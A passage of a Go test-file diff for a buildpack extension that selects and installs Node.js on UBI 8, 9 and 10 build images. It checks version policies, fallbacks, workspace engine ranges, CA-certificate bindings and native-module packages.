+			Expect(buffer.String()).To(ContainSubstring("Falling back to the builder-default default version policy"))
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 16"))
+		})
+
+		it("falls back to the default version of the builder once the release calendar is outdated", func() {
+			t.Setenv("BP_UBI_NODE_DEFAULT_VERSION_POLICY", "latest-lts")
+			generate = ubinodejsextension.Generate(
+				dependencyManager,
+				logger,
+				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
+				imagesJsonPath,
+				structs.BuildImage{},
+				chronos.NewClock(func() time.Time { return time.Date(2040, time.January, 1, 0, 0, 0, 0, time.UTC) }),
+			)
+
+			_, err = generateWithNodeVersion("")
+			Expect(err).NotTo(HaveOccurred())
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 16"))
+		})
+
+		it("fails when the policy is not supported", func() {
+			t.Setenv("BP_UBI_NODE_DEFAULT_VERSION_POLICY", "newest")
+
+			_, err = generateWithNodeVersion("")
+			Expect(err).To(MatchError(`invalid default version policy "newest" set by BP_UBI_NODE_DEFAULT_VERSION_POLICY, supported policies are: builder-default, latest, latest-lts, oldest-supported`))
+		})
+	}, spec.Sequential())
+
+	context("When the requested Node.js major version is not offered", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18", "20"}, []bool{false, true, false}, false), structs.BuildImage{})
+		})
+
+		generateWithNodeVersion := func(nodeVersion string) (packit.GenerateResult, error) {
+			return generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": nodeVersion, "version-source": ".nvmrc"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+		}
+
+		it("fails listing the available major versions by default", func() {
+			_, err = generateWithNodeVersion("19.*")
+			Expect(err).To(MatchError(ContainSubstring("failed to resolve Node.js for platform linux/amd64 on UBI 8")))
+			Expect(err).To(MatchError(HaveSuffix("available Node.js major versions are: 16, 18, 20")))
+		})
+
+		it("falls back to the nearest newer major version", func() {
+			t.Setenv("BP_UBI_NODE_VERSION_FALLBACK", "nearest-newer")
+			outputDir := t.TempDir()
+			t.Setenv("CNB_OUTPUT_DIR", outputDir)
+
+			generateResult, err = generateWithNodeVersion("17")
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM paketocommunity/run-nodejs-18-ubi-base\n"))
+			Expect(buffer.String()).To(ContainSubstring("WARNING: Node.js 17 requested by .nvmrc is not offered by the builder"))
+			Expect(buffer.String()).To(ContainSubstring("WARNING: Falling back to Node.js 18 as BP_UBI_NODE_VERSION_FALLBACK is set to nearest-newer"))
+
+			var generateReport structs.GenerateReport
+			_, err = toml.DecodeFile(filepath.Join(outputDir, "generate-report.toml"), &generateReport)
+			Expect(err).NotTo(HaveOccurred())
+			Expect(generateReport.NodeVersionFallback).To(Equal("nearest-newer"))
+			Expect(generateReport.NodeMajorVersion).To(Equal(uint64(18)))
+		})
+
+		it("fails when there is no version to fall back to", func() {
+			t.Setenv("BP_UBI_NODE_VERSION_FALLBACK", "nearest-newer")
+
+			_, err = generateWithNodeVersion("22")
+			Expect(err).To(MatchError(`failed to resolve Node.js for platform linux/amd64 on UBI 8: no Node.js version to fall back to from "22" with the nearest-newer policy, available Node.js major versions are: 16, 18, 20`))
+		})
+
+		it("fails when the policy is not supported", func() {
+			t.Setenv("BP_UBI_NODE_VERSION_FALLBACK", "nearest")
+
+			_, err = generateWithNodeVersion("19")
+			Expect(err).To(MatchError(`invalid version fallback policy "nearest" set by BP_UBI_NODE_VERSION_FALLBACK, supported policies are: fail, nearest-newer, nearest-lts`))
+		})
+	}, spec.Sequential())
+
+	context("When the requested Node.js versions conflict", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18", "20"}, []bool{false, true, false}, false), structs.BuildImage{})
+		})
+
+		generateWithVersions := func(packageJsonVersion string) (packit.GenerateResult, error) {
+			return generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": packageJsonVersion, "version-source": "package.json"},
+						},
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "16", "version-source": ".nvmrc"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+		}
+
+		it("reports each conflict with its version source", func() {
+			outputDir := t.TempDir()
+			t.Setenv("CNB_OUTPUT_DIR", outputDir)
+
+			_, err = generateWithVersions(">=18")
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(buffer.String()).To(ContainSubstring("WARNING: Node.js 20 selected from package.json conflicts with the versions requested by other sources"))
+			Expect(buffer.String()).To(ContainSubstring(".nvmrc requests 16"))
+			Expect(buffer.String()).To(ContainSubstring("No Node.js version offered by the builder satisfies all the requested versions"))
+
+			var generateReport structs.GenerateReport
+			_, err = toml.DecodeFile(filepath.Join(outputDir, "generate-report.toml"), &generateReport)
+			Expect(err).NotTo(HaveOccurred())
+			Expect(generateReport.NodeVersionConflicts).To(Equal([]string{".nvmrc requests 16"}))
+		})
+
+		it("lists the versions satisfying all the requested versions", func() {
+			_, err = generateWithVersions("*")
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(buffer.String()).To(ContainSubstring("Node.js 16 would satisfy all the requested versions"))
+		})
+
+		it("does not report anything when the versions agree", func() {
+			_, err = generateWithVersions("^16.1.0")
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(buffer.String()).NotTo(ContainSubstring("conflicts"))
+		})
+
+		it("fails in strict mode", func() {
+			t.Setenv("BP_UBI_NODE_VERSION_STRICT", "true")
+
+			_, err = generateWithVersions(">=18")
+			Expect(err).To(MatchError("Node.js 20 selected from package.json conflicts with the versions requested by other sources as BP_UBI_NODE_VERSION_STRICT is set to true: .nvmrc requests 16"))
+		})
+	}, spec.Sequential())
+
+	context("When the app pins Node.js with volta or asdf", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18", "20"}, []bool{false, true, false}, false), structs.BuildImage{})
+		})
+
+		generateWithEntries := func(entries ...packit.BuildpackPlanEntry) (packit.GenerateResult, error) {
+			return generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan:       packit.BuildpackPlan{Entries: append([]packit.BuildpackPlanEntry{{Name: "node"}}, entries...)},
+				Stack:      "io.buildpacks.stacks.ubi8",
+			})
+		}
+
+		it("selects the version pinned by volta.node of package.json", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, "package.json"), []byte(`{"volta": {"node": "16.20.2"}}`), 0644)).To(Succeed())
+			Expect(os.WriteFile(filepath.Join(workingDir, ".tool-versions"), []byte("nodejs 20.11.1\n"), 0644)).To(Succeed())
+
+			_, err = generateWithEntries(packit.BuildpackPlanEntry{
+				Name:     "node",
+				Metadata: map[string]interface{}{"version": "20", "version-source": ".nvmrc"},
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 16"))
+			Expect(buffer.String()).To(MatchRegexp(`volta\s+-> "16"`))
+			Expect(buffer.String()).To(MatchRegexp(`\.tool-versions\s+-> "20"`))
+		})
+
+		it("selects the version of .tool-versions when no other source requests one", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, ".tool-versions"), []byte("nodejs 20.11.1\n"), 0644)).To(Succeed())
+
+			_, err = generateWithEntries()
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 20"))
+		})
+
+		it("keeps BP_NODE_VERSION and engines of package.json first", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, "package.json"), []byte(`{"engines": {"node": "18"}, "volta": {"node": "16.20.2"}}`), 0644)).To(Succeed())
+
+			_, err = generateWithEntries(packit.BuildpackPlanEntry{
+				Name:     "node",
+				Metadata: map[string]interface{}{"version": "18", "version-source": "package.json"},
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 18"))
+			Expect(buffer.String()).To(ContainSubstring("volta requests 16"))
+		})
+	}, spec.Sequential())
+
+	context("When the app is a workspaces monorepo", func() {
+
+		writePackageJson := func(workspacePath string, content string) {
+			Expect(os.MkdirAll(filepath.Join(workingDir, workspacePath), 0755)).To(Succeed())
+			Expect(os.WriteFile(filepath.Join(workingDir, workspacePath, "package.json"), []byte(content), 0644)).To(Succeed())
+		}
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18", "20"}, []bool{false, true, false}, false), structs.BuildImage{})
+		})
+
+		generateWithEntries := func(entries ...packit.BuildpackPlanEntry) (packit.GenerateResult, error) {
+			return generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan:       packit.BuildpackPlan{Entries: append([]packit.BuildpackPlanEntry{{Name: "node"}}, entries...)},
+				Stack:      "io.buildpacks.stacks.ubi8",
+			})
+		}
+
+		it("selects the highest version satisfying the engines of every workspace", func() {
+			writePackageJson(".", `{"name": "monorepo", "engines": {"node": ">=16"}, "workspaces": ["packages/*"]}`)
+			writePackageJson("packages/api", `{"name": "api", "engines": {"node": "^16 || ^18"}}`)
+			writePackageJson("packages/web", `{"name": "web", "engines": {"node": ">=18"}}`)
+
+			_, err = generateWithEntries(packit.BuildpackPlanEntry{
+				Name:     "node",
+				Metadata: map[string]interface{}{"version": ">=16", "version-source": "package.json"},
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(buffer.String()).To(ContainSubstring("Node.js 18 satisfies the engines.node ranges of the 3 workspace packages"))
+			Expect(buffer.String()).To(MatchRegexp(`workspaces\s+-> "18"`))
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 18"))
+		})
+
+		it("reads the workspaces of pnpm-workspace.yaml under BP_NODE_PROJECT_PATH", func() {
+			t.Setenv("BP_NODE_PROJECT_PATH", "frontend")
+			writePackageJson("frontend", `{"name": "frontend"}`)
+			writePackageJson("frontend/apps/shop", `{"name": "shop", "engines": {"node": "16.x"}}`)
+			Expect(os.WriteFile(filepath.Join(workingDir, "frontend", "pnpm-workspace.yaml"), []byte("packages:\n  - apps/*\n"), 0644)).To(Succeed())
+
+			_, err = generateWithEntries()
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 16"))
+		})
+
+		it("names the workspaces making the intersection empty", func() {
+			writePackageJson(".", `{"name": "monorepo", "workspaces": ["packages/*"]}`)
+			writePackageJson("packages/api", `{"name": "api", "engines": {"node": "^16"}}`)
+			writePackageJson("packages/web", `{"name": "web", "engines": {"node": ">=18"}}`)
+			writePackageJson("packages/worker", `{"name": "worker", "engines": {"node": ">=18"}}`)
+
+			_, err = generateWithEntries()
+			Expect(err).To(MatchError("failed to resolve Node.js for platform linux/amd64 on UBI 8: no Node.js version offered by the builder satisfies the engines.node ranges of all the workspaces, Node.js 20 is excluded by: api requires ^16, available Node.js major versions are: 16, 18, 20"))
+		})
+
+		it("ignores the workspaces making the intersection empty when BP_NODE_VERSION is set", func() {
+			t.Setenv("BP_NODE_VERSION", "16")
+			writePackageJson(".", `{"name": "monorepo", "workspaces": ["packages/*"]}`)
+			writePackageJson("packages/api", `{"name": "api", "engines": {"node": "^16"}}`)
+			writePackageJson("packages/web", `{"name": "web", "engines": {"node": ">=18"}}`)
+
+			_, err = generateWithEntries(packit.BuildpackPlanEntry{
+				Name:     "node",
+				Metadata: map[string]interface{}{"version": "16", "version-source": "BP_NODE_VERSION"},
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(buffer.String()).To(ContainSubstring("Ignoring the engines.node ranges of the workspaces as BP_NODE_VERSION is set"))
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 16"))
+		})
+	}, spec.Sequential())
+
+	context("When a ca-certificates binding is provided", func() {
+
+		var platformDir string
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+			platformDir = t.TempDir()
+			t.Setenv("SERVICE_BINDING_ROOT", "")
+			t.Setenv("CNB_BINDINGS", "")
+
+			bindingDir := filepath.Join(platformDir, "bindings", "internal-ca")
+			Expect(os.MkdirAll(bindingDir, 0755)).To(Succeed())
+			Expect(os.WriteFile(filepath.Join(bindingDir, "type"), []byte("ca-certificates"), 0600)).To(Succeed())
+			Expect(os.WriteFile(filepath.Join(bindingDir, "ca.pem"), []byte("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"), 0600)).To(Succeed())
+		})
+
+		it("trusts the certificates during the extended build", func() {
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Platform:   packit.Platform{Path: platformDir},
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring("RUN echo LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUIKLS0tLS1FTkQgQ0VSVElGSUNBVEUtLS0tLQo= | base64 -d > /etc/pki/ca-trust/source/anchors/internal-ca-ca.pem"))
+			Expect(buf.String()).To(ContainSubstring("RUN update-ca-trust extract"))
+			Expect(buffer.String()).To(ContainSubstring("Adding 1 CA certificate(s) from the ca-certificates bindings to the build image"))
+		})
+	}, spec.Sequential())
+
+	context("When the app has a lockfile", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+		})
+
+		it("skips the native build toolchain when no package compiles native code", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, "package-lock.json"), []byte(`{
+  "lockfileVersion": 3,
+  "packages": { "node_modules/express": { "version": "4.18.2" } }
+}`), 0600)).To(Succeed())
+
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring("install -y libatomic_ops git openssl-devel nodejs npm nodejs-nodemon nss_wrapper which && microdnf clean all"))
+			Expect(buf.String()).NotTo(ContainSubstring("npm_config_nodedir"))
+			Expect(buffer.String()).To(ContainSubstring("Skipping the native build toolchain as no package of package-lock.json compiles native code"))
+		})
+
+		it("installs the native build toolchain with the Node.js headers when the app has no lockfile", func() {
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring(fmt.Sprintf("install -y %s nodejs-devel && microdnf clean all", ubinodejsextension.PACKAGES)))
+			Expect(buf.String()).To(ContainSubstring("ENV npm_config_nodedir=/usr"))
+			Expect(buffer.String()).To(ContainSubstring("Installing the native build toolchain as no lockfile has been found"))
+		})
+
+		it("installs the native build toolchain when a package compiles native code", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, "yarn.lock"), []byte(`bcrypt@^5.1.0:
+  version "5.1.1"
+`), 0600)).To(Succeed())
+
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring(fmt.Sprintf("install -y %s nodejs-devel && microdnf clean all", ubinodejsextension.PACKAGES)))
+			Expect(buf.String()).To(ContainSubstring("ENV npm_config_nodedir=/usr"))
+			Expect(buffer.String()).To(ContainSubstring("Installing the native build toolchain required by packages of yarn.lock"))
+			Expect(buffer.String()).To(ContainSubstring("Building native modules against the headers of nodejs-devel"))
+			Expect(buffer.String()).To(ContainSubstring("bcrypt"))
+		})
+	}, spec.Sequential())
+
+	context("When the app uses native modules requiring system libraries", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+
+			Expect(os.WriteFile(filepath.Join(workingDir, "package-lock.json"), []byte(`{
+  "lockfileVersion": 3,
+  "packages": {
+    "node_modules/pg-native": { "version": "3.0.1" },
+    "node_modules/my-addon": { "version": "1.0.0" }
+  }
+}`), 0600)).To(Succeed())
+
+		})
+
+		it("installs their build packages on the build image and their runtime packages on the run image", func() {
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring("install -y libatomic_ops git openssl-devel nodejs npm nodejs-nodemon nss_wrapper which libpq-devel && microdnf clean all"))
+			buf.Reset()
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HaveSuffix(`USER root
+RUN microdnf --setopt=install_weak_deps=0 --setopt=tsflags=nodocs install -y libpq && microdnf clean all
+USER 1002:1000`))
+		})
+
+		it("uses the mapping file given by BP_UBI_NATIVE_MODULES_MAPPING", func() {
+			mappingPath := filepath.Join(t.TempDir(), "mapping.json")
+			Expect(os.WriteFile(mappingPath, []byte(`{ "my-addon": { "build": ["libfoo-devel"], "run": ["libfoo"] } }`), 0600)).To(Succeed())
+			t.Setenv("BP_UBI_NATIVE_MODULES_MAPPING", mappingPath)
+
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(ContainSubstring("install -y libfoo libpq && microdnf clean all"))
+		})
+
+		it("only uses the mapping file given by BP_UBI_NATIVE_MODULES_MAPPING when the embedded mapping is skipped", func() {
+			mappingPath := filepath.Join(t.TempDir(), "mapping.json")
+			Expect(os.WriteFile(mappingPath, []byte(`{ "my-addon": { "build": ["libfoo-devel"], "run": ["libfoo"] } }`), 0600)).To(Succeed())
+			t.Setenv("BP_UBI_NATIVE_MODULES_MAPPING", mappingPath)
+			t.Setenv("BP_UBI_SKIP_EMBEDDED_NATIVE_MODULES_MAPPING", "true")
+
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(ContainSubstring("install -y libfoo && microdnf clean all"))
+		})
+
+		it("does not install the system packages of well known native modules when BP_UBI_SKIP_EMBEDDED_NATIVE_MODULES_MAPPING is set", func() {
+			t.Setenv("BP_UBI_SKIP_EMBEDDED_NATIVE_MODULES_MAPPING", "true")
+
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).NotTo(ContainSubstring("libpq-devel"))
+			buf.Reset()
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).NotTo(ContainSubstring("libpq"))
+		})
+	}, spec.Sequential())
+
+	context("When BP_UBI_NODE_PROFILE env has been set", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+		})
+
+		it("installs the selected profile of the module stream", func() {
+			t.Setenv("BP_UBI_NODE_PROFILE", "s2i")
+
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buildDockerfileContent, _ := utils.GenerateBuildDockerfile(structs.BuildDockerfileProps{
+				GENERATE_REPORT: true,
+				CNB_USER_ID:     1002,
+				CNB_GROUP_ID:    1000,
+				CNB_STACK_ID:    "io.buildpacks.stacks.ubi8",
+				PACKAGES:        "make gcc gcc-c++ libatomic_ops git openssl-devel nss_wrapper which python3 nodejs-devel",
+				NODEJS_HEADERS:  true,
+				NODEJS_VERSION:  18,
+				NODEJS_PROFILE:  "s2i",
+			})
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(Equal(buildDockerfileContent))
+			Expect(buffer.String()).To(ContainSubstring("Selected Node.js module profile nodejs:18/s2i"))
+		})
+
+		it("fails when the profile is not supported", func() {
+			t.Setenv("BP_UBI_NODE_PROFILE", "tiny")
+
+			_, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(Equal(`invalid Node.js module profile "tiny" set by BP_UBI_NODE_PROFILE, supported profiles are: common, minimal, development, s2i`))
+		})
+	}, spec.Sequential())
+
+	context("When the build image is based on UBI 9 or UBI 10", func() {
+
+		var distro structs.Distro
+
+		it.Before(func() {
+			setupGenerate(`{
+  "images": [
+    { "name": "nodejs-16-ubi9", "distro_version": "9", "run_images": { "linux/amd64": "registry.example.com/run-nodejs-16-ubi9" } },
+    { "name": "nodejs-20", "is_default_run_image": true, "distro_version": "8" },
+    { "name": "nodejs-20-ubi9", "is_default_run_image": true, "distro_version": "9", "run_images": { "linux/amd64": "registry.example.com/run-nodejs-20-ubi9" } },
+    { "name": "nodejs-22-ubi10", "is_default_run_image": true, "distro_version": "10", "run_images": { "linux/amd64": "registry.example.com/run-nodejs-22-ubi10" } },
+    { "name": "nodejs-24-ubi10", "distro_version": "10", "run_images": { "linux/amd64": "registry.example.com/run-nodejs-24-ubi10" } }
+  ]
+}`, structs.BuildImage{})
+
+			t.Setenv("CNB_TARGET_ARCH", "amd64")
+		})
+
+		generateWithNodeVersion := func(nodeVersion string) (packit.GenerateResult, error) {
+			return newGenerate(structs.BuildImage{Distro: distro})(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": nodeVersion, "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi",
+			})
+		}
+
+		it("enables the module stream and selects the UBI 9 run image", func() {
+			distro = structs.Distro{Name: "rhel", Version: "9.4"}
+
+			generateResult, err = generateWithNodeVersion("20.*")
+			Expect(err).NotTo(HaveOccurred())
+
+			buildDockerfileContent, _ := utils.GenerateBuildDockerfile(structs.BuildDockerfileProps{
+				GENERATE_REPORT: true,
+				CNB_USER_ID:     1002,
+				CNB_GROUP_ID:    1000,
+				CNB_STACK_ID:    "io.buildpacks.stacks.ubi",
+				PACKAGES:        ubinodejsextension.PACKAGES + " " + ubinodejsextension.NODEJS_HEADERS_PACKAGES,
+				NODEJS_HEADERS:  true,
+				NODEJS_VERSION:  20,
+			})
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(Equal(buildDockerfileContent))
+
+			buf = new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM registry.example.com/run-nodejs-20-ubi9\n"))
+		})
+
+		it("installs the plain nodejs packages of UBI 9 for Node.js 16", func() {
+			distro = structs.Distro{Name: "rhel", Version: "9.4"}
+
+			generateResult, err = generateWithNodeVersion("16.*")
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).NotTo(ContainSubstring("module enable"))
+			Expect(buf.String()).To(ContainSubstring("install -y " + ubinodejsextension.PACKAGES + " nodejs-devel && microdnf clean all"))
+		})
+
+		it("installs the versioned nodejs packages on UBI 10", func() {
+			distro = structs.Distro{Name: "rhel", Version: "10.0"}
+
+			generateResult, err = generateWithNodeVersion("24.*")
+			Expect(err).NotTo(HaveOccurred())
+
+			buildDockerfileContent, _ := utils.GenerateBuildDockerfile(structs.BuildDockerfileProps{
+				GENERATE_REPORT: true,
+				CNB_USER_ID:     1002,
+				CNB_GROUP_ID:    1000,
+				CNB_STACK_ID:    "io.buildpacks.stacks.ubi",
+				PACKAGES:        "make gcc gcc-c++ libatomic_ops git openssl-devel nodejs24 nodejs24-npm nss_wrapper-libs which python3 nodejs24-devel",
+				NODEJS_HEADERS:  true,
+				NODEJS_VERSION:  24,
+				NON_MODULAR:     true,
+			})
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(Equal(buildDockerfileContent))
+
+			buf = new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM registry.example.com/run-nodejs-24-ubi10\n"))
+		})
+
+		it("installs the versioned full ICU data package on UBI 10", func() {
+			t.Setenv("BP_UBI_NODE_FULL_ICU", "true")
+			distro = structs.Distro{Name: "rhel", Version: "10.0"}
+
+			generateResult, err = generateWithNodeVersion("24.*")
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring("nodejs24-full-i18n && microdnf clean all"))
+			buf.Reset()
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(ContainSubstring("install -y nodejs24-full-i18n && microdnf clean all"))
+		})
+
+		it("fails when a module profile is requested on UBI 10", func() {
+			distro = structs.Distro{Name: "rhel", Version: "10.0"}
+			t.Setenv("BP_UBI_NODE_PROFILE", "minimal")
+
+			_, err = generateWithNodeVersion("22.*")
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(Equal("BP_UBI_NODE_PROFILE can not be used as Node.js 22 is not delivered as a module stream on UBI 10"))
+		})
+
+		it("does not log a module stream profile on UBI 10", func() {
+			distro = structs.Distro{Name: "rhel", Version: "10.0"}
+
+			_, err = generateWithNodeVersion("22.*")
+			Expect(err).NotTo(HaveOccurred())
+			Expect(buffer.String()).NotTo(ContainSubstring("profile"))
+		})
+
+		it("fails when the Node.js version is not offered for the UBI version", func() {
+			distro = structs.Distro{Name: "rhel", Version: "10.0"}
+
+			_, err = generateWithNodeVersion("20.*")
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring("failed to resolve Node.js for platform linux/amd64 on UBI 10"))
+		})
+
+		it("uses the package manager of the build image", func() {
